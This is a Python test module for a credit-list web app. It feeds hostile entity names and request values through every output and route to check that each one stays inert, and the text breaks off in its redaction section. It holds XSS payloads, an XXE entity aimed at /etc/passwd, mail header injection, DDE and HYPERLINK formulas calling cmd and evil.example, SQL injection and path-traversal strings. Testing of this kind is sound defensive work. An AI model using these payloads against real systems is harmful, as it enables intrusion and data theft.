"""Hostile content followed end to end (issue 20): names a compromised or careless portal could
publish (markup, attribute breakouts, CR/LF, NUL, bidi overrides, spreadsheet formulas, 100 kB
strings ...) are stored, then followed through every sink that shows or hands them out: the
web app's list, entity, search and changes pages, its JSON API, CSV download and Atom feeds,
CSV / XLSX / JSON Lines snapshots, and the alerts a subscription gets by email (the SMTP
channel to a real receiver), by webhook (a real receiver) and in its Atom file.

Each input is tallied once (kind ``input``) with the number of sinks it went through and, as
what was seen, how many of them read it back inert and intact. The web app is then probed on
every route it declares: SQL injection in every parameter, path traversal on every file
route, absurd paging; its default bind address; and a redacting server, which must show no ID
number, legal representative or unredacted feed even when the names are hostile.

``CW_HOSTILE_ROUNDS`` (default 1) repeats the web probes with that many variants of each SQL
string (case and comment changes), for a longer soak.
"""

from __future__ import annotations

import csv
import html
import io
import json
import os
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select, update

from alerts.channels import ATOM_NS
from alerts.messages import one_line
from alerts.outbox import alert_key, enqueue_run
from alerts.sender import send_pending
from export.formats import FORMULA_TRIGGERS, XLSX_MAX_CELL
from export.snapshots import write_snapshot
from storage.engine import get_engine
from storage.models import Event, Record
from storage.outbox import save_subscription
from tests.alert_receivers import smtp_receiver, webhook_receiver
from tests.faults.tally import tally
from tests.helpers import DAY1, DAY2, FIXTURES, rewrite_record
from tests.replay_cache import Replay, ReplayCache
from web.app import create_app

pytestmark = pytest.mark.replay

ROOT = Path(__file__).resolve().parents[2]
SECRET = "hostile-webhook-secret"
SUBSCRIPTION = "hostile-watch"
LISTS = ("xmtravel.warning", "xmtravel.good", "mct_tourism.blacklist")
BLACKLIST_DAY1 = FIXTURES / "mct_tourism" / "mct_tourism-day1.yaml"
LONG = "<b>长</b>" * 12_500  # 100,000 characters of markup


@dataclass(frozen=True)
class Hostile:
    """A scraped entity name and the part of it every rendering must show as text."""

    label: str
    value: str
    visible: str


HOSTILE: tuple[Hostile, ...] = (
    Hostile("100 kB string of markup", LONG, "<b>长</b><b>长</b>"),
    Hostile("SQL in a name", "未'); DROP TABLE records;--", "DROP TABLE records"),
    Hostile(
        "markdown link and autolink",
        "[点我](javascript:alert(1)) **粗** <https://evil.example>",
        "[点我](javascript:alert(1))",
    ),
    Hostile(
        "XML DOCTYPE and external entity",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;申',
        "&e;申",
    ),
    Hostile("JSON breakout", '"}],"evil":true,{"x":"酉', '"evil":true'),
    Hostile("MIME encoded-word in a name", "亥 =?utf-8?b?PHNjcmlwdD4=?= 公司", "=?utf-8?b?"),
    Hostile("<script> element", "<script>alert(1)</script>厦门甲公司", "<script>alert(1)</script>"),
    Hostile(
        "attribute breakout with onerror",
        '"><img src=x onerror=alert(1)>厦门乙公司',
        '"><img src=x onerror=alert(1)>',
    ),
    Hostile(
        "single-quote breakout into svg", "'><svg/onload=alert(1)>丙", "'><svg/onload=alert(1)>"
    ),
    Hostile("javascript: URL as a name", "javascript:alert(document.cookie)", "javascript:alert"),
    Hostile(
        "comment, CDATA and raw-text closers",
        "<!--<![CDATA[x]]>--></title></textarea></style><plaintext>丁",
        "</textarea></style><plaintext>",
    ),
    Hostile(
        "CRLF with forged mail headers",
        "厦门己公司\r\nBcc: victim@example.org\r\nX-Injected: 1",
        "Bcc: victim@example.org",
    ),
    Hostile(
        "bare LF with a forged Subject", "庚公司\nSubject: forged\n\n<b>body</b>", "Subject: forged"
    ),
    Hostile("NUL inside a name", "厦门\x00辛公司", "辛公司"),
    Hostile("C0 controls and an ANSI escape", "壬\x07\x08\x0b\x0c\x1b[31m红色", "[31m红色"),
    Hostile("RTL override (U+202E)", "\u202eevil\u202c癸公司\u2066", "evil"),
    Hostile("line/paragraph separators, zero width", "子\u2028丑\u2029寅\u200b卯公司", "卯公司"),
    Hostile("XML noncharacters U+FFFE/U+FFFF", "辰\ufffe巳\uffff公司", "公司"),
    Hostile("=HYPERLINK formula", '=HYPERLINK("http://evil.example/?"&A1,"点击")', "HYPERLINK"),
    Hostile("=cmd| DDE formula", "=cmd|' /C calc'!A0", "cmd|"),
    Hostile("+ formula", "+1+cmd|' /C calc'!A0", "+1+cmd"),
    Hostile(
        "emoji ZWJ and combining marks",
        "👨\u200d👩\u200d👧 Z\u0334\u0321a\u0337l\u0338g\u0336o",
        "👨",
    ),
    Hostile("template syntax", "{{7*7}}{% if 1 %}${7*7}#{7*7}戊", "{{7*7}}{% if 1 %}${7*7}"),
    Hostile("- formula", "-2+3+cmd|' /C notepad'!A0", "-2+3+cmd"),
    Hostile("@ formula", "@SUM(1+9)*cmd|' /C calc'!A0", "@SUM"),
    Hostile("full-width ＝ formula", "＝1+1＋厦门", "＝1+1"),
    Hostile("tab then formula", "\t=1+1午公司", "=1+1午公司"),
    Hostile(
        "escaped text not to be decoded", "&lt;b&gt;%3Cscript%3E\\u003ci\\u003e戌", "&lt;b&gt;"
    ),
)

# Characters no rendered medium may carry raw (the web app and messages show them as code).
HIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
# What a page may never grow from data: a script, an event handler, a dangerous URL scheme.
BAD_SCHEME = re.compile(r"^\s*(javascript|vbscript|data):", re.I)


# -- the site ------------------------------------------------------------------------------------


@dataclass
class HostileSite:
    url: str
    root: Path
    snapshots: Path
    record: dict[str, dict[str, Any]]  # label → the entry's data as stored
    event_ids: dict[str, list[str]]  # label → its events
    benign: str  # an entity left alone: the pages every hostile one is compared with
    hooked: dict[str, Any] = field(default_factory=dict)  # idempotency key → webhook body
    mailed: dict[str, Any] = field(default_factory=dict)  # Message-ID → parsed email
    feed_file: Path = Path()
    channels: dict[str, str] = field(default_factory=dict)  # kind → the subscription's spec
    report: dict[str, int] = field(default_factory=dict)


def search_key(data: dict[str, Any]) -> str | None:
    """What finds a record on the search page: its USCC, else its case number."""
    return data.get("uscc") or data.get("case_number")


def plant(url: str) -> tuple[dict[str, dict[str, Any]], str]:
    """Give each hostile name to one entry of the Xiamen lists (its record, the record's
    history and its events), as if the portal had published it so; an entity with one entry
    stays untouched, for comparison. Returns label → the entry's stored data, and that
    entity's id."""
    records, events = Record.__table__, Event.__table__
    with get_engine(url).begin() as conn:
        rows = conn.execute(
            select(records.c.id, records.c.entity_id, records.c.status, records.c.data).where(
                records.c.list.in_(LISTS)
            )
        ).all()
        alerted = {tuple(r) for r in conn.execute(select(events.c.list, events.c.record_key))}
        counts: dict[str, int] = {}
        for row in rows:
            counts[row.entity_id] = counts.get(row.entity_id, 0) + 1
        benign = min(
            (r.entity_id for r in rows if (r.data["list"], r.data["record_key"]) in alerted),
            key=lambda e: (counts[e] != 1, not e.startswith("uscc-"), e),
        )
        usable = sorted(
            (r for r in rows if r.entity_id != benign),
            key=lambda r: (
                (r.data["list"], r.data["record_key"]) not in alerted,
                search_key(r.data) is None,
                r.data["list"],
                r.data["record_key"],
            ),
        )
        assert len(usable) >= len(HOSTILE), (len(usable), len(HOSTILE))
        planted: dict[str, dict[str, Any]] = {}
        for item, row in zip(HOSTILE, usable, strict=False):
            data = {**row.data, "entity_name": item.value}
            rewrite_record(conn, row.id, {"entity_name": item.value})
            conn.execute(
                update(events)
                .where(events.c.list == data["list"], events.c.record_key == data["record_key"])
                .values(entity_name=item.value)
            )
            planted[item.label] = {**data, "status": row.status}
    return planted, benign


@pytest.fixture(scope="module")
def hostile_site(
    replay_cache: ReplayCache, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[HostileSite]:
    """Day 1 of the Xiamen portal and of the tourism blacklist (persons), every hostile name
    planted, a subscription to both Xiamen lists from their baseline with an email, a webhook
    and a feed channel, its alerts sent to real receivers, and CSV, XLSX and JSON Lines
    snapshots."""
    root = tmp_path_factory.mktemp("hostile-inputs")
    url = f"sqlite:///{root / 'creditwatch.sqlite'}"
    runs = replay_cache.into(
        url,
        Replay(DAY1, delist_after=1),
        Replay(DAY2, delist_after=1),
        Replay(BLACKLIST_DAY1, source="mct_tourism", delist_after=1),
    )
    planted, benign = plant(url)
    engine = get_engine(url)
    event_table = Event.__table__
    with engine.connect() as conn:
        event_ids = {
            label: list(
                conn.execute(
                    select(event_table.c.event_id).where(
                        event_table.c.list == data["list"],
                        event_table.c.record_key == data["record_key"],
                    )
                ).scalars()
            )
            for label, data in planted.items()
        }
    snapshots = root / "snapshots"
    with engine.connect() as conn:
        for fmt in ("csv", "xlsx", "jsonl"):
            write_snapshot(conn, snapshots / fmt, sources=["xmtravel"], fmt=fmt)
    site = HostileSite(url, root, snapshots, planted, event_ids, benign)
    site.feed_file = root / "hostile.atom"
    with (
        webhook_receiver(SECRET) as (hook, hooked),
        smtp_receiver() as (port, mailed),
        pytest.MonkeyPatch.context() as patch,
    ):
        for name, value in {
            "CREDITWATCH_WEBHOOK_SECRET": SECRET,
            "CREDITWATCH_SMTP_HOST": "127.0.0.1",
            "CREDITWATCH_SMTP_PORT": str(port),
            "CREDITWATCH_SMTP_STARTTLS": "0",
            "CREDITWATCH_SMTP_FROM": "creditwatch@example.org",
        }.items():
            patch.setenv(name, value)
        site.channels = {
            "email": "email:desk@example.org",
            "webhook": f"webhook:{hook}",
            "feed": f"feed:{site.feed_file}",
        }
        with engine.begin() as conn:
            data = {
                "id": SUBSCRIPTION,
                "lists": list(LISTS),
                "include_baseline": True,
                "channels": list(site.channels.values()),
                "language": "en",
            }
            save_subscription(conn, data, "test", datetime.now(UTC))
            assert sum(enqueue_run(conn, run) for run in runs) > 0
        site.report = dict(send_pending(engine))
        site.hooked = dict(hooked.applied)
        site.mailed = dict(mailed.applied)
    yield site


@pytest.fixture(scope="module")
def client(hostile_site: HostileSite) -> TestClient:
    app = create_app(database_url=hostile_site.url, snapshots_dir=hostile_site.snapshots)
    return TestClient(app, raise_server_exceptions=False)


# -- reading the sinks back ----------------------------------------------------------------------


class Markup(HTMLParser):
    """Every start tag of a page with its attributes, and its text, as a browser parses it."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def shape(self) -> set[tuple[str, str]]:
        """(element, attribute) pairs: what data must never add to a page."""
        return {(tag, name) for tag, attrs in self.tags for name, _ in [*attrs, ("", None)]}

    def active(self) -> list[str]:
        """Event handlers and script URLs anywhere on the page."""
        found = [
            f"{tag} {name}"
            for tag, attrs in self.tags
            for name, _ in attrs
            if name.startswith("on")
        ]
        found += [
            f"{tag} {name}={value}"
            for tag, attrs in self.tags
            for name, value in attrs
            if name in ("href", "src", "action", "formaction") and BAD_SCHEME.match(value or "")
        ]
        return found


def html_verdict(answer: Any, item: Hostile, allowed: set[tuple[str, str]]) -> str | None:
    """None when the page shows the name as text only; else what is wrong."""
    if answer.status_code != 200:
        return f"HTTP {answer.status_code}"
    page = Markup(answer.text)
    # An element or attribute the untouched pages lack is the data's doing only if the data
    # names it (a page of an entity with more entries has more of the template's elements).
    lowered = item.value.lower()
    new = {(t, a) for t, a in page.shape() - allowed if t in lowered or (a and a in lowered)}
    if new:
        return f"new elements or attributes {sorted(new)[:5]}"
    if active := page.active():
        return f"active content {active[:3]}"
    text = "".join(page.text)
    if hidden := HIDDEN.findall(answer.text):
        return f"raw control characters {sorted(set(hidden))!r}"
    if item.visible not in text:
        return "the name is not shown as text"
    return None


def csv_rows(text: str) -> list[dict[str, str]]:
    """Rows as a spreadsheet splits them (a bare CR ends a row), each as wide as the header."""
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert all(None not in row and None not in row.values() for row in rows)
    return [{field_of(name): cell for name, cell in row.items()} for row in rows]


def field_of(header: str) -> str:
    """A column's field: the web download labels it ``条目键 (record_key)``."""
    labelled = re.search(r"\((\w+)\)$", header)
    return labelled.group(1) if labelled else header


def live(cell: str) -> bool:
    """A cell a spreadsheet would run: a formula trigger first, not a plain ASCII number."""
    if not cell.startswith(FORMULA_TRIGGERS):
        return False
    return not re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", cell)


def csv_verdict(rows: list[dict[str, str]], data: dict[str, Any], item: Hostile) -> str | None:
    mine = [r for r in rows if r["record_key"] == data["record_key"]]
    if len(mine) != 1:
        return f"{len(mine)} rows for the entry"
    if any(live(cell) for row in rows for cell in row.values()):
        return "a live formula cell"
    cell = mine[0]["entity_name"]
    if cell != item.value and cell != "'" + item.value:
        return f"the name changed: {cell[:40]!r}"
    return None


def xlsx_rows(path: Path) -> tuple[list[dict[str, Any]], int]:
    """The sheet's rows by header, and how many formula cells it holds."""
    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    formulas = sum(1 for row in sheet.iter_rows() for cell in row if cell.data_type == "f")
    values = list(sheet.iter_rows(values_only=True))
    header = [str(v) for v in values[0]]
    return [dict(zip(header, row, strict=True)) for row in values[1:]], formulas


def xlsx_verdict(
    read: tuple[list[dict[str, Any]], int], data: dict[str, Any], item: Hostile
) -> str | None:
    rows, formulas = read
    if formulas:
        return f"{formulas} formula cells"
    mine = [r for r in rows if r["record_key"] == data["record_key"]]
    if len(mine) != 1:
        return f"{len(mine)} rows for the entry"
    cell = mine[0]["entity_name"]
    legal = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "\ufffd", item.value)
    if len(legal) <= XLSX_MAX_CELL:
        return None if cell == legal else f"the name changed: {str(cell)[:40]!r}"
    cut = isinstance(cell, str) and len(cell) <= XLSX_MAX_CELL and f"+{len(legal)} " in cell
    return None if cut and legal.startswith(cell[: cell.index("…")]) else "a long name not cut"


def atom_entries(document: bytes) -> dict[str, ET.Element]:
    """A well-formed Atom document's entries by id (parsing raises on anything else)."""
    root = ET.fromstring(document)
    return {
        entry.findtext(f"{{{ATOM_NS}}}id") or "": entry
        for entry in root.iter(f"{{{ATOM_NS}}}entry")
    }


def atom_verdict(entries: dict[str, ET.Element], ids: list[str], item: Hostile) -> str | None:
    found = [entries[i] for i in ids if i in entries]
    if len(found) != len(ids):
        return f"{len(ids) - len(found)} entries missing"
    for entry in found:
        title = entry.findtext(f"{{{ATOM_NS}}}title") or ""
        content = entry.findtext(f"{{{ATOM_NS}}}content") or ""
        if HIDDEN.search(title) or "\n" in title:
            return f"title not one clean line: {title[:60]!r}"
        if re.sub("[\ufffe\uffff]", "\ufffd", one_line(item.value)[:20]) not in title:
            return f"title lacks the name: {title[:60]!r}"
        page = Markup(content)
        if page.active() or {t for t, _ in page.tags} & {"script", "img", "svg", "iframe"}:
            return "active markup in the content"
    return None


MAIL_HEADERS = {
    "subject", "from", "to", "date", "message-id", "x-creditwatch-key", "auto-submitted",
    "mime-version", "content-type", "content-language",
}  # fmt: skip


def mail_verdict(mails: list[Any], item: Hostile) -> str | None:
    for mail in mails:
        if extra := {name.lower() for name in mail} - MAIL_HEADERS:
            return f"injected headers {sorted(extra)}"
        if len(mail.get_all("Subject") or []) != 1 or mail.get_all("Bcc"):
            return "a forged Subject or Bcc"
        subject = str(mail["Subject"])
        if "\r" in subject or "\n" in subject or HIDDEN.search(subject):
            return f"the subject is not one clean line: {subject[:60]!r}"
        if one_line(item.value)[:20] not in subject:
            return f"the subject lacks the name: {subject[:80]!r}"
        if "<" in item.value and "<" in subject and "<" not in one_line(item.value):
            return "markup decoded into the subject"
        page = mail.get_body(("html",)).get_content()
        if Markup(page).active() or "<script" in page.lower():
            return "active markup in the HTML part"
    return None if mails else "no email"


def webhook_verdict(bodies: list[Any], item: Hostile) -> str | None:
    for body in bodies:
        if [e["entity_name"] for e in body["events"]] != [item.value]:
            return "the event's name changed"
        if [r["entity_name"] for r in body["records"]] != [item.value]:
            return "the record's name changed"
    return None if bodies else "no webhook"


@dataclass
class Sinks:
    """What every hostile name is read back from: the web app (asked per name) and the
    files, feeds and deliveries (read once)."""

    site: HostileSite
    client: TestClient
    allowed: set[tuple[str, str]]  # (element, attribute) pairs of the pages without them
    csv: dict[str, list[dict[str, str]]]
    xlsx: dict[str, tuple[list[dict[str, Any]], int]]
    jsonl: dict[str, list[dict[str, Any]]]
    feeds: dict[str, dict[str, ET.Element]]
    mails: dict[str, Any]

    def page(self, path: str, item: Hostile, **params: str) -> str | None:
        return html_verdict(self.client.get(path, params=params), item, self.allowed)

    def follow(self, item: Hostile) -> dict[str, str | None]:
        """Each sink's verdict on ``item``: None when inert and intact."""
        data = self.site.record[item.label]
        lst, key, events = data["list"], search_key(data), self.site.event_ids[item.label]
        entity = quote(data["entity_id"], safe="")
        filtered = {"status": "all", "q": key or ""}
        download = self.client.get(f"/lists/{lst}.csv", params=filtered)
        api = self.client.get(f"/api/entities/{entity}").json()["records"]
        api_names = [r["entity_name"] for r in api if r["record_key"] == data["record_key"]]
        seen = {
            "entity page": self.page(f"/entities/{entity}", item),
            "list page": self.page(f"/lists/{lst}", item, **filtered),
            "CSV download": csv_verdict(csv_rows(download.content.decode("utf-8-sig")), data, item),
            "JSON API": None if api_names == [item.value] else "the API changed the name",
        }
        if key:
            seen["search page"] = self.page("/search", item, q=key)
        if lst in self.csv and data["status"] != "removed":  # a snapshot holds the listed
            seen["CSV snapshot"] = csv_verdict(self.csv[lst], data, item)
            seen["XLSX snapshot"] = xlsx_verdict(self.xlsx[lst], data, item)
            names = [
                r["entity_name"] for r in self.jsonl[lst] if r["record_key"] == data["record_key"]
            ]
            seen["JSONL snapshot"] = None if names == [item.value] else "the name changed"
        if not events:
            return seen
        seen["changes page"] = self.page("/changes", item, baseline="1", list=lst, per_page="200")
        channels = self.site.channels

        def keys(channel: str) -> list[str]:
            return [alert_key(SUBSCRIPTION, channel, event) for event in events]

        for name, entries in self.feeds.items():
            channel = "feed" if name == "web feed" else channels["feed"]
            ids = [f"urn:creditwatch:alert:{k}" for k in keys(channel)]
            seen[name] = atom_verdict(entries, ids, item)
        seen["email"] = mail_verdict(
            [self.mails[k] for k in keys(channels["email"]) if k in self.mails], item
        )
        hooked = self.site.hooked
        seen["webhook JSON"] = webhook_verdict(
            [hooked[k] for k in keys(channels["webhook"]) if k in hooked], item
        )
        return seen


@pytest.fixture(scope="module")
def sinks(hostile_site: HostileSite, client: TestClient) -> Sinks:
    site = hostile_site
    benign_key = site.benign.removeprefix("uscc-")
    allowed: set[tuple[str, str]] = set()
    for path in (
        f"/entities/{site.benign}",
        f"/search?q={benign_key}",
        *(f"/lists/{lst}?status=all&q={benign_key}" for lst in LISTS),
        "/changes?baseline=1&event=modified",
    ):
        answer = client.get(path)
        assert answer.status_code == 200, path
        allowed |= Markup(answer.text).shape()
    files = {
        fmt: {lst: site.snapshots / fmt / f"{lst}.{fmt}" for lst in LISTS[:2]}
        for fmt in ("csv", "xlsx", "jsonl")
    }
    web_feed = client.get(f"/feeds/{SUBSCRIPTION}.atom")
    assert web_feed.status_code == 200
    return Sinks(
        site=site,
        client=client,
        allowed=allowed,
        csv={lst: csv_rows(p.read_bytes().decode("utf-8")) for lst, p in files["csv"].items()},
        xlsx={lst: xlsx_rows(p) for lst, p in files["xlsx"].items()},
        jsonl={
            lst: [json.loads(line) for line in p.read_text(encoding="utf-8").splitlines()]
            for lst, p in files["jsonl"].items()
        },
        feeds={
            "web feed": atom_entries(web_feed.content),
            "feed file": atom_entries(site.feed_file.read_bytes()),
        },
        mails={str(m["X-Creditwatch-Key"]): m for m in site.mailed.values()},
    )


def test_hostile_names_are_inert_and_intact_in_every_sink(
    hostile_site: HostileSite, sinks: Sinks
) -> None:
    """Every hostile name through every sink that shows or hands it out; each tallied with
    the number of sinks it went through and how many read it back inert and intact."""
    site = hostile_site
    assert site.report.get("delivered") and not site.report.get("failed"), site.report
    changes_feed = sinks.client.get("/changes.atom", params={"baseline": "1"})
    assert changes_feed.status_code == 200
    atom_entries(changes_feed.content)  # well-formed, every hostile name in it
    failures: dict[str, dict[str, str]] = {}
    for item in HOSTILE:
        seen = sinks.follow(item)
        bad = {sink: problem for sink, problem in seen.items() if problem is not None}
        tried = len(seen)
        tally(
            "input",
            f"name: {item.label}",
            expected=f"inert and intact in {tried} of {tried} sinks",
            seen=f"inert and intact in {tried - len(bad)} of {tried} sinks",
            tried=tried,
            lost=len(bad),
        )
        if bad:
            failures[item.label] = bad
    assert not failures, failures
    assert sum(len(sinks.follow(item)) for item in HOSTILE[:1]) >= 12  # every sink applied
    with get_engine(site.url).connect() as conn:  # the SQL in a name ran nowhere
        assert conn.execute(select(func.count()).select_from(Record.__table__)).scalar_one() > 30


def test_the_spreadsheet_rules_are_documented_and_xlsx_is_reproducible(
    hostile_site: HostileSite,
) -> None:
    """docs/exports.md states the CSV rule; every XLSX snapshot's data dictionary states its
    own (text cells, never formulas); the same data gives the same XLSX bytes."""
    exports = (ROOT / "docs" / "exports.md").read_text(encoding="utf-8")
    assert "CSV-injection" in exports and "leading `'`" in exports
    dictionary = (hostile_site.snapshots / "xlsx" / "data-dictionary.md").read_text("utf-8")
    assert "never a formula" in dictionary and "32,767" in dictionary
    again = hostile_site.root / "xlsx-again"
    with get_engine(hostile_site.url).connect() as conn:
        write_snapshot(conn, again, sources=["xmtravel"], fmt="xlsx")
    for name in ("xmtravel.good.xlsx", "xmtravel.warning.xlsx", "manifest.json"):
        assert (again / name).read_bytes() == (hostile_site.snapshots / "xlsx" / name).read_bytes()


# -- the web app probed --------------------------------------------------------------------------

ROUNDS = max(1, int(os.environ.get("CW_HOSTILE_ROUNDS", "1")))
SQL_INJECTIONS = {
    "SQL: ' OR '1'='1": "' OR '1'='1",
    "SQL: stacked DROP TABLE": "1; DROP TABLE records;--",
    "SQL: UNION SELECT": '" OR 1=1 UNION SELECT sqlite_version(),2,3--',
    "SQL: LIKE wildcard and sqlite_master": "%' AND 1=0 UNION SELECT name FROM sqlite_master--",
    "SQL: time-based pg_sleep": "'; SELECT pg_sleep(5);--",
}
# Parameters pages read besides the ones routes declare (filters, sorting, language).
READ_PARAMETERS = (
    "q", "status", "from", "to", "as_of", "sort", "dir", "source", "list", "event", "cause",
    "baseline", "view", "runs", "lang",
)  # fmt: skip
TRAVERSALS = {
    "traversal: ../ to /etc/passwd": "../../../../../../etc/passwd",
    "traversal: %2e%2e%2f encoded": "%2e%2e%2f%2e%2e%2fcreditwatch.sqlite",
    "traversal: double-encoded %252e%252e%252f": "%252e%252e%252fcreditwatch.sqlite",
    "traversal: absolute path": "%2Fetc%2Fpasswd",
    "traversal: NUL before a suffix": "manifest.json%00.csv",
    "traversal: backslashes": "..%5C..%5Ccreditwatch.sqlite",
    "traversal: a file the manifest does not name": "unlisted.txt",
}
PAGING = {
    "paging: page=-1": {"page": "-1"},
    "paging: page=0": {"page": "0"},
    "paging: page=10**12": {"page": str(10**12)},
    "paging: per_page=10**9": {"per_page": str(10**9)},
    "paging: per_page=-5 and page=1e3": {"per_page": "-5", "page": "1e3"},
}
SECRET_MARK = "cw-secret-must-not-be-served"
SEARCHED = ("/api/lists/", "/api/search")  # the JSON answers of a search by ``q``
LEAKS = ("root:x:0:0", "SQLite format 3", SECRET_MARK)


def variants(value: str) -> list[str]:
    """``value`` and, for longer soaks, spellings a filter might miss (case, comments)."""
    spelled = [value, value.lower(), value.replace(" ", "/**/"), value.upper()]
    return spelled[: min(ROUNDS, len(spelled))] if ROUNDS > 1 else [value]


def declared_routes(app: Any) -> list[tuple[str, list[str], list[str]]]:
    """(template, path parameters, query parameters) of every route the app declares."""
    from tests.test_web_hostile import routes

    return [(template, params, query) for _, template, params, query in routes(app)]


@pytest.fixture(scope="module")
def valid(hostile_site: HostileSite) -> dict[str, str]:
    """A value that works for every path parameter of the hostile site."""
    from storage.archive import RESPONSES

    with get_engine(hostile_site.url).connect() as conn:
        sha = conn.execute(select(RESPONSES.c.sha256).limit(1)).scalar_one()
    (hostile_site.snapshots / "csv" / "unlisted.txt").write_text(SECRET_MARK)
    (hostile_site.root / "secret.txt").write_text(SECRET_MARK)
    return {
        "list_id": LISTS[0],
        "entity_id": hostile_site.benign,
        "sha": sha,
        "name": "csv",
        "file": "manifest.json",
        "subscription_id": SUBSCRIPTION,
        "path": "style.css",
    }


def fill(template: str, values: dict[str, str]) -> str:
    """The URL, values sent as given (already percent-encoded where they need to be)."""
    return template.format(**values)


def count_records(url: str) -> int:
    with get_engine(url).connect() as conn:
        return conn.execute(select(func.count()).select_from(Record.__table__)).scalar_one()


def test_sql_injection_in_every_parameter_of_every_route(
    hostile_site: HostileSite, client: TestClient, valid: dict[str, str]
) -> None:
    """Each SQL string in each path and query parameter of each declared route (and the
    filters pages read): no 5xx, no search matching everything, nothing slow, the tables
    intact."""
    from tests.test_web_hostile import assert_secure

    before = count_records(hostile_site.url)
    for label, injection in SQL_INJECTIONS.items():
        asked, errors, matched, slow = 0, [], [], []
        for sent in variants(injection):
            encoded = quote(sent, safe="")
            for template, params, query in declared_routes(client.app):
                base = fill(template, {p: quote(valid[p], safe="") for p in params})
                urls = [fill(template, {**valid, p: encoded}) for p in params]
                urls += [f"{base}?{name}={encoded}" for name in {*query, *READ_PARAMETERS}]
                for url in urls:
                    started = datetime.now(UTC)
                    answer = client.get(url)
                    asked += 1
                    if (datetime.now(UTC) - started).total_seconds() > 3:
                        slow.append(url)
                    if answer.status_code >= 500:
                        errors.append((url, answer.status_code))
                    assert_secure(answer, url)
                    if "?q=" in url and url.startswith(SEARCHED):
                        body = answer.json()
                        found = ("total", "entries", "hits", "results")
                        if isinstance(body, dict) and any(body.get(k) for k in found):
                            matched.append(url)
        intact = count_records(hostile_site.url) == before
        problems = [f"{len(errors)} 5xx"] * bool(errors) + [f"{len(matched)} matched"] * bool(
            matched
        )
        problems += [f"{len(slow)} slow"] * bool(slow) + ["tables changed"] * (not intact)
        tally(
            "input",
            label,
            expected="no 5xx, no match, tables intact",
            seen=", ".join(problems) or "no 5xx, no match, tables intact",
            tried=asked,
            lost=len(errors) + len(matched) + len(slow),
        )
        assert not problems, (label, errors[:5], matched[:5], slow[:5])
        assert asked > 100, asked


FILE_ROUTES = ("/snapshots/{name}/{file}", "/raw/{sha}", "/raw/{sha}/body", "/static/{path}")


def test_path_traversal_on_every_file_route(
    hostile_site: HostileSite, client: TestClient, valid: dict[str, str]
) -> None:
    """Every traversal spelling in every parameter of every route that serves a file: a 4xx,
    and no byte of /etc/passwd, the database or a file no manifest names."""
    templates = [
        (template, params)
        for template, params, _ in declared_routes(client.app)
        if template in FILE_ROUTES or template.startswith("/feeds/")
    ]
    assert {t for t, _ in templates} >= set(FILE_ROUTES), templates
    for label, attack in TRAVERSALS.items():
        asked, served = 0, []
        for template, params in templates:
            for param in params:
                url = fill(
                    template, {**{p: quote(valid[p], safe="") for p in params}, param: attack}
                )
                answer = client.get(url)
                asked += 1
                body = answer.content.decode("utf-8", "replace")
                if not 400 <= answer.status_code < 500 or any(mark in body for mark in LEAKS):
                    served.append((url, answer.status_code))
        tally(
            "input",
            label,
            expected="4xx, nothing served",
            seen="4xx, nothing served" if not served else f"{len(served)} served",
            tried=asked,
            lost=len(served),
        )
        assert not served, (label, served)


def test_absurd_paging_is_refused_or_bounded(client: TestClient, valid: dict[str, str]) -> None:
    """Negative, zero, huge and non-numeric paging on every route that pages: a 4xx or a
    bounded page, quickly, never a 5xx."""
    paged = [
        (fill(template, {p: quote(valid[p], safe="") for p in params}), query)
        for template, params, query in declared_routes(client.app)
        if "page" in query or "per_page" in query
    ]
    assert len(paged) >= 3, paged
    for label, params in PAGING.items():
        asked, bad = 0, []
        for url, query in paged:
            sent = {k: v for k, v in params.items() if k in query}
            if not sent:
                continue
            started = datetime.now(UTC)
            answer = client.get(url, params=sent)
            took = (datetime.now(UTC) - started).total_seconds()
            asked += 1
            bounded = answer.status_code < 300 and len(answer.content) < 5_000_000
            if (
                answer.status_code >= 500
                or took > 3
                or not (400 <= answer.status_code < 500 or bounded)
            ):
                bad.append((url, sent, answer.status_code, took))
        tally(
            "input",
            label,
            expected="4xx or a bounded page",
            seen="4xx or a bounded page" if not bad else f"{len(bad)} bad answers",
            tried=asked,
            lost=len(bad),
        )
        assert asked and not bad, (label, bad)


def test_serve_binds_to_loopback_by_default(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``creditwatch serve`` without ``--host`` listens on 127.0.0.1 only (what uvicorn is
    asked to bind, read at the call)."""
    import uvicorn
    from typer.testing import CliRunner

    from pipeline.cli import app as cli_app

    bound: list[str] = []
    monkeypatch.setattr(uvicorn, "run", lambda app, **kwargs: bound.append(kwargs["host"]))
    env = {"CREDITWATCH_DATA_DIR": str(tmp_path), "DATABASE_URL": ""}
    result = CliRunner().invoke(cli_app, ["serve"], env=env)
    assert result.exit_code == 0, result.output
    tally(
        "input",
        "serve without --host",
        expected="binds 127.0.0.1",
        seen=f"binds {', '.join(bound) or 'nothing'}",
    )
    assert bound == ["127.0.0.1"]


# -- a redacting server --------------------------------------------------------------------------

MASKED_ID = re.compile(r"[0-9]{2,}[*＊]{2,}[0-9]*[0-9Xx]")


def private(url: str) -> tuple[set[str], set[str]]:
    """Persons' full names (hostile ones included) and legal representatives' names."""
    persons: set[str] = set()
    representatives: set[str] = set()
    with get_engine(url).connect() as conn:
        for data in conn.execute(select(Record.__table__.c.data)).scalars():
            for name in re.split(r"[、,，;；/\s]+", data.get("legal_representative") or ""):
                if len(name) > 1:
                    representatives.add(name)
